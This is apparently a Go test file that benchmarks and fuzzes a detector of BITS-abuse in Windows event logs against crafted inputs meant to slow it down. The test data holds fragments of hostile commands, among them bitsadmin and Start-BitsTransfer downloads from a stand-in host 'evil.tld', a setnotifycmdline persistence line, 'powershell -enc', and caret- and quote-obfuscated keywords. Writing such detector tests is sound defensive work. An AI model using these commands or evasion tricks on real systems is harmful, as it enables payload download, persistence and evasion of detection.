package hardened

import (
	"flag"
	"fmt"
	"strings"
	"testing"
	"time"

	"bitsscore/src/detect"
)

// craftedUnits are text units that, repeated, once made the extractor
// quadratic or worse (each a call or a switch that read to the end of its
// command), and units that exercise every scanner.
var craftedUnits = []string{
	"start-bitstransfer -destination ",
	"start-bitstransfer -source ",
	"powershell -enc ",
	"bitsadmin /transfer ",
	`-destination "C:\a b c d e f g h `,
	`name="Destination"; value="C:\x `,
	`h"tt"ps://a.microsoft.com.evil.tld/x?.microsoft.com C:\Users\Public\a"b".exe `,
	"Add-BitsFile New-BitsTransfer BITS.Manager SetNotifyCmdLine ",
	"bitsadmin /setnotifycmdline j cmd.exe ",
	"& {Start-BitsTransfer -Destination '${a $( \"`} ",
	`\\host\s\a.exe http://1.2.3.4/a.exe %temp%\a.exe `,
	// PowerShell's reading carried over many tokens: bitsadmin in a
	// script block, escaped spaces, open expressions and curly quotes.
	"& {bitsadmin /transfer j https://evil.tld/a.exe C:\\a` b /setnotifycmdline j (x} ",
	"Start-BitsTransfer` https://evil.tld/a.exe` C:\\a` -Source (\u201c ",
	// Near misses of the anchors, their letters apart by the bytes
	// tokenize removes, and key letters among runs of those bytes: each
	// key letter sends the anchor scan over them.
	"s^e^t^n^o^t^i^f^y^c^m^d^l^i^n^ b\"a\"c\"k\"g\"r\"o\"u\"n\"d\"c\"o\"p ",
	"b\"'^`\"'^`\"'^`w\"'^`\"'^`y\"'^`\"'^`q\"'^`k\"'^`\"'^`",
}

// plainUnit is ordinary text. Repeated after a BITS cmdlet's name, it is
// analysed whole (text without a word BITS needs is skipped, and costs
// less still): the baseline a crafted text is held to.
const plainUnit = "the quick brown fox jumps over the lazy dog 0123456789 "

// plainText returns n bytes of plain text that the detector analyses.
func plainText(n int) string { return repeatTo("Start-BitsTransfer "+plainUnit, n) }

// costFields are the fields a crafted text arrives in.
var costFields = []struct {
	name  string
	event func(text string) event
}{
	{"CommandLine", func(s string) event { return sysmon1(powershellExe, s) }},
	{"cmd.exe CommandLine", func(s string) event { return sysmon1(cmdExe, s) }},
	{"Payload", func(s string) event { return ev("EventCode", "4103", "Payload", s) }},
	{"ScriptBlockText", func(s string) event { return scriptBlock(s) }},
}

func repeatTo(unit string, n int) string { return strings.Repeat(unit, n/len(unit)+1)[:n] }

// timeScore returns the least time of runs scorings of in.
func timeScore(d detect.Detector, in []detect.Values, runs int) time.Duration {
	out := make([]detect.Values, len(d.Outputs()))
	best := time.Duration(1<<63 - 1)
	for range runs {
		start := time.Now()
		d.Score(in, out)
		best = min(best, time.Since(start))
	}
	return best
}

// BenchmarkCraftedLength scores 256 KiB of each crafted unit, repeated, in
// each field, against 256 KiB of plain text in the same field, and reports
// their ratio (x-plain): it must stay at most 3.
func BenchmarkCraftedLength(b *testing.B) {
	const n = 256 << 10
	for _, f := range costFields {
		for i, unit := range craftedUnits {
			b.Run(fmt.Sprintf("%s/unit%d", f.name, i), func(b *testing.B) {
				d := New(nil)
				crafted := toInputs(d, f.event(repeatTo(unit, n)))
				plain := toInputs(d, f.event(plainText(n)))
				out := make([]detect.Values, len(d.Outputs()))
				d.Score(crafted, out)
				d.Score(plain, out)
				var tc, tp time.Duration
				b.SetBytes(n)
				b.ResetTimer()
				for range b.N {
					start := time.Now()
					d.Score(crafted, out)
					mid := time.Now()
					d.Score(plain, out)
					tc += mid.Sub(start)
					tp += time.Since(mid)
				}
				b.ReportMetric(float64(tc)/float64(tp), "x-plain")
			})
		}
	}
}

var fuzzing = func() bool {
	f := flag.Lookup("test.fuzz")
	return f != nil && f.Value.String() != ""
}

// FuzzCraftedCost: a 64 KiB text made of one unit repeated, in each field,
// costs at most 3 times plain text of the same length (plus 2 ms for the
// timer's noise). Time is only checked while fuzzing (go test -fuzz
// FuzzCraftedCost); the seed corpus run of go test checks the invariants
// on 4 KiB texts.
func FuzzCraftedCost(f *testing.F) {
	for _, u := range craftedUnits {
		f.Add(u)
	}
	known := DefaultKnownGood()
	d := New(known)
	n := 4 << 10 // the seed corpus run checks the invariants only
	if fuzzing() {
		n = 64 << 10
	}
	plain := plainText(n)
	f.Fuzz(func(t *testing.T, unit string) {
		if unit == "" {
			return
		}
		text := repeatTo(unit, n)
		for _, field := range costFields {
			in := toInputs(d, field.event(text))
			out := make([]detect.Values, len(d.Outputs()))
			d.Score(in, out)
			checkInvariants(t, d, known, out)
			if !fuzzing() {
				continue
			}
			tc := timeScore(d, in, 3)
			tp := timeScore(d, toInputs(d, field.event(plain)), 3)
			if tc > 3*tp+2*time.Millisecond {
				t.Fatalf("%s: %q repeated to 64 KiB takes %v, plain text %v", field.name, unit, tc, tp)
			}
		}
	})
}
